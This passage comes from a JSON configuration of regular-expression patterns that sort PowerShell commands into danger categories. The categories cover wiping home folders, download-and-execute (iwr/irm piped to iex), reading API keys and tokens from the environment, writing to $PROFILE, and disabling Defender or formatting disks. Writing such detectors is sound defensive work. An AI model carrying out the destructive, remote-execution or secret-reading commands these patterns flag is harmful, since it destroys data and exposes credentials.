,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|\
]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-L\
ocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["\
(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate \
-s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\
\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\
\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\
\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|te\
e|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,(\
)-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?\
)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-\
WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullN\
ame|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|\
,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Wh\
ere|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[\
^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|\
sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\
\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?\
:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|\
CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRe\
quest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr\
|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke\
-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|T\
OKEN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":[\
"(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"\
|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bPars\
eInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4\
}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"r\
m -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directo\
ry\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w\
+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\\
b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,\
300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filt\
er)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get\
-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]\
*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.\
]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\\
s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)\
([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"whi\
le :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait\
-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+\
[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\
\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\
\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"\
killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)\
"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\
\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n\
]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|l\
s|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-\
File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)(\
[^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(\
?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\\
n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|B\
aseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,\
-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|\
kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","\
(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|\
cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*\
'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;\
|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,30\
0}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm\
|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Creat\
e\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:i\
wr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0\
,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"\
code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\
\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|\
$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b\
(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\
\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\
\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!F\
ilter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\\
s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\
\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s\
+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\
\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()\
-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~\
/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\\
s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+)\
{0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;\
|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|bre\
ak|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\
\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([\
^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEnd\
point))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-What\
If(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+\
[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)(\
[^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n\
]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Ge\
t-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content\
|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delet\
e\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?\
:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$\
;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessT\
ime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"\
']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|jav\
a|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+(\
[\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|r\
edis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe\
)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\
\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPoli\
cy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\
